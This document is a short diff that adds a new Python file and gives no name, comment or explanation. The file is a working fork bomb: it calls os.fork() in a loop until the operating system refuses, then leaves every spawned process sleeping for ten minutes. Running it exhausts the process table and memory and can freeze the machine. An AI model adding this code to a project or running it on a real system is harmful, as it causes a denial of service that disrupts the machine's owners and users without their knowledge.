@@ -1,0 +1,9 @@
+import os
+import time
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        break
+time.sleep(600)
